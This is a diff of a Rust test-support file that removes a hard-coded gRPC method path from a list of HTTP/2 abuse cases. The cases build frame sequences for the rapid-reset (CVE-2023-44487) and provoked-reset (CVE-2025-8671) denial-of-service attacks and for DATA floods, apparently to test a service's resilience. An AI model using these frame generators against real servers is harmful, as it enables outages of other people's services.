@@ -6,8 +6,6 @@ use super::{
 };
 use crate::support::http2::{DATA, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, encoded};
 
-const ACCESS: &str = "/billing.portal.v1.PortalAccess/GetPortalAccess";
-
 /// CANCEL (RFC 9113, section 7).
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 
@@ -21,15 +19,13 @@ pub(super) const ABUSES: &[Abuse] = &[
     Abuse {
         name: "rapid-reset",
         title: "begins calls and resets them immediately (CVE-2023-44487)",
-        bytes: |target, number| [target.call(ACCESS, number), encoded(RST_STREAM, 0, stream(number), &CANCEL)].concat(),
+        bytes: |target, number| [target.call(number), encoded(RST_STREAM, 0, stream(number), &CANCEL)].concat(),
         ..FLOOD
     },
     Abuse {
         name: "provoked-reset",
         title: "makes the service reset calls, with window updates of 0 (CVE-2025-8671)",
-        bytes: |target, number| {
-            [target.call(ACCESS, number), encoded(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat()
-        },
+        bytes: |target, number| [target.call(number), encoded(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat(),
         ..FLOOD
     },
     Abuse {
@@ -98,7 +94,7 @@ fn settings(_: &Target, number: u32) -> Vec<u8> {
 fn data(target: &Target, number: u32, payload: &[u8]) -> Vec<u8> {
     let call = number / 100;
     match number % 100 {
-        0 => target.call(ACCESS, call),
+        0 => target.call(call),
         _ => encoded(DATA, 0, stream(call), payload),
     }
 }
